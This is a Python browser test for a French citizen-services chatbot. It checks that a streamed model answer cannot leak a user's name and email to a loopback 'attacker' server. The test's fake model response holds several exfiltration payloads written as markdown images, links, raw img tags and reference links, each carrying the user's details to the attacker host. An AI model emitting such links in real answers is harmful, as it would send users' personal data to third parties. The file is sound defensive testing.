"""The finding, replayed in Debian's Chromium against ``chatbot serve``: the model streams,
slowly, an image and links to an "attacker" server on loopback with the citizen's
placeholders in them. The attacker must receive nothing, and the page must never hold a
foreign link or image, not even for a moment while the answer streams."""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.test_browser import ANSWER, ask, open_chat
from tests.test_display import malicious

pytestmark = pytest.mark.browser

NAME, EMAIL = "Jean Dupont", "jean.dupont@example.org"

# Every element's href/src, from the first paint on: what the page ever held.
WATCH = """
window.__seen = [];
const record = (el) => {
  if (!el || el.nodeType !== 1) return;
  for (const a of ["href", "src", "srcset", "xlink:href"]) {
    const v = el.getAttribute && el.getAttribute(a);
    if (v) window.__seen.push(v);
  }
  if (el.querySelectorAll) el.querySelectorAll("[href],[src],[srcset]").forEach((c) => {
    for (const a of ["href", "src", "srcset"]) {
      const v = c.getAttribute(a);
      if (v) window.__seen.push(v);
    }
  });
};
new MutationObserver((mutations) => {
  for (const m of mutations) {
    if (m.type === "attributes") record(m.target);
    m.addedNodes.forEach(record);
  }
}).observe(document, {subtree: true, childList: true, attributes: true,
                      attributeFilter: ["href", "src", "srcset"]});
"""


@pytest.fixture
def attacker():
    """An HTTP server on loopback that records every request it gets."""
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()
    server.server_close()


def test_no_request_and_no_foreign_link_while_the_answer_streams(
    app_server, page, double, attacker
) -> None:
    host, requests = attacker
    double.responder = malicious(
        "Pour <NOM_1>, voici le formulaire "
        f"![formulaire](<//{host}/a.png?who=<NOM_1>&mail=<EMAIL_1>>) "
        f"et [votre dossier](http://{host}/d?n=<NOM_1>&m=<EMAIL_1>), "
        f"<img src=//{host}/b.png?<EMAIL_1>> ou ![plan][p] et [le suivi][s]. "
        f"Voir aussi https:\\\\{host}/c et <http://{host}/e?<NOM_1>>. "
        "Faites la demande en mairie [1].\n\n"
        f"[p]: //{host}/p.png?<NOM_1>\n[s]: http://{host}/s?<EMAIL_1>"
    )
    double.tokens_per_second = 30  # slow: the page renders many partial answers
    page.add_init_script(WATCH)
    open_chat(page, app_server.url)
    ask(page, f"Je suis {NAME}, {EMAIL}. Comment refaire ma carte d'identité ?")

    answer = page.locator(ANSWER).last
    answer.wait_for(timeout=60_000)
    shown: list[str] = []
    for _ in range(1200):  # poll the text too, while it streams
        text = answer.inner_text()
        if not shown or text != shown[-1]:
            shown.append(text)
        if "Sources" in text:
            break
        page.wait_for_timeout(50)
    assert "Sources" in shown[-1], "the answer ended"
    assert len(shown) >= 3, "the answer streamed"
    page.wait_for_timeout(1000)

    seen = page.evaluate("window.__seen")
    assert seen, "the observer saw the page's links"
    assert [v for v in seen if host in v or EMAIL in v or "Dupont" in v] == []
    assert not [t for t in shown if host in t or EMAIL in t]
    assert requests == [], "the attacker's server got nothing"
    assert NAME in shown[-1], "the name is shown, in plain text"
    assert answer.locator("img").count() == 0
    hrefs = [a.get_attribute("href") or "" for a in answer.locator("a").all()]
    assert hrefs and all(re.match(r"https://www\.service-public\.fr/", h) for h in hrefs), hrefs
